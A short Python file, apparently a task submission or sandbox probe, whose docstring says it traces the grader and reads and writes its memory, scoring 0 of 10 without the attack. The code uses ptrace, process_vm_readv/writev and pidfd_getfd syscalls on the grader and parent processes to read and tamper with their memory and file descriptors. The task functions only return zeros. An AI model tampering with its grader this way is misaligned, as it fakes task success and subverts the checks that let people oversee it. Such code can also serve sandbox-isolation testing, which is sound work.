"""The grader is traced, and its memory is read and written.

Without the attack: 0 of 10 points.
"""

import ctypes
import os

import outside
import torch

BASELINE = "zeros"

libc = ctypes.CDLL(None, use_errno=True)
PTRACE, READ_MEMORY, WRITE_MEMORY, PIDFD_OPEN, PIDFD_GETFD = 101, 310, 311, 434, 438
buffer = ctypes.create_string_buffer(4096)
print("attacks", flush=True)
for pid in (outside.GRADER_PID, os.getppid()):
    print(libc.syscall(PTRACE, 16, pid, 0, 0), libc.syscall(PTRACE, 0x4206, pid, 0, 0))
    for number in (READ_MEMORY, WRITE_MEMORY):
        vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 4096)
        print(libc.syscall(number, pid, vector, 1, vector, 1, 0))
    pidfd = libc.syscall(PIDFD_OPEN, pid, 0)
    print(pidfd, [libc.syscall(PIDFD_GETFD, pidfd, number, 0) for number in range(8)])
print(buffer.raw.strip(b"\0"))


def double(x):
    return torch.zeros_like(x)


def total(x):
    return 0.0
